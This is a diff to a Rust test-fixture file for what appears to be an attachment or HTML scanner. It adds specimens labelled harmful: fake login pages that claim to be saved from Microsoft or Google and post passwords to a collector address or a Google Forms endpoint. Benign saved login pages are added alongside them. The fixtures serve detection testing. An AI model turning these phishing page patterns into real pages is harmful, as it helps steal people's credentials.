@@ -6,6 +6,7 @@ use base64::engine::general_purpose::STANDARD;
 use super::Specimen;
 use super::archive::zip_of;
 use super::carrier::{encoded_program, png};
+use super::letter::Letter;
 
 const HTML: &str = "text/html";
 
@@ -31,6 +32,25 @@ fn long_base64(bytes: usize) -> String {
 /// Innocent, every one.
 pub(super) fn innocent() -> Vec<Specimen> {
     [makes_a_file(), asks_for_a_password(), writes_itself(), moves_on(), with_a_program()].concat()
+}
+
+/// Harmful: they say that they were saved from a site, and collect elsewhere, or say so of where they collect.
+pub(super) fn harmful() -> Vec<Specimen> {
+    let is = |name, file, saved_from: &str, action: &str| {
+        let body = format!(
+            "<!-- saved from url=({:04}){saved_from} -->{TEXT}<form action=\"{action}\"><input type=\"password\" \
+             name=\"passwd\"></form>",
+            saved_from.len()
+        );
+        Specimen::harmful(name, file, HTML, page(&body), "html-credentials")
+    };
+    let (login, collects) = ("https://login.microsoftonline.com/common/oauth2", "https://collect.invalid/login");
+    let form = "https://docs.google.com/forms/d/e/1/formResponse";
+    vec![
+        is("a login that says it was saved from a well-known site", "microsoft.html", login, collects),
+        is("a login that says it was saved from where it collects", "mailbox.html", collects, collects),
+        is("a login that fills in a form of somebody at a well-known site", "google.html", form, form),
+    ]
 }
 
 fn makes_a_file() -> Vec<Specimen> {
@@ -105,7 +125,18 @@ fn makes_a_file() -> Vec<Specimen> {
 
 fn asks_for_a_password() -> Vec<Specimen> {
     let is = |name, file, body: String| Specimen::innocent(&["HTM-0002"], name, file, HTML, page(&body));
+    let portal = "https://portal.partner.example/login";
+    let portal = format!(
+        "<!-- saved from url=({:04}){portal} -->{TEXT}<form action=\"{portal}\"><input type=\"password\" \
+         name=\"pw\"></form>",
+        portal.len()
+    );
     vec![
+        Specimen::mail(
+            &["HTM-0002"],
+            "the login of the sender's own portal, as a browser saved it",
+            &Letter::new("portal").text("Where to sign in.").file("portal.html", HTML, &page(&portal)),
+        ),
         is(
             "a saved page whose login leads to its own site",
             "shop.html",
@@ -144,6 +175,25 @@ fn asks_for_a_password() -> Vec<Specimen> {
                 "{TEXT}<input type=\"password\" id=\"out\"><button onclick=\"make()\">New</button><script>\
                  function make(){{var s='';for(var i=0;i<12;i++)s+=String.fromCharCode(97+Math.random()*26);\
                  document.getElementById('out').value=s;}}</script>"
+            ),
+        ),
+        is(
+            "a saved page of a well-known site whose login has its whole address",
+            "signin.html",
+            format!(
+                "<!-- saved from url=(0043)https://login.microsoftonline.com/common/oa -->{TEXT}<form \
+                 action=\"https://login.microsoftonline.com/common/login\"><input name=\"login\"><input \
+                 type=\"password\" name=\"passwd\"></form>"
+            ),
+        ),
+        is(
+            "a page that was saved with SingleFile, of a well-known site",
+            "signin-2.html",
+            format!(
+                "<!--\n Page saved with SingleFile \n url: https://www.linkedin.com/login \n--><link rel=\"canonical\" \
+                 href=\"https://www.linkedin.com/login\">{TEXT}<form \
+                 action=\"https://www.linkedin.com/checkpoint/lg/login-submit\"><input type=\"password\" \
+                 name=\"session_password\"></form>"
             ),
         ),
         is(
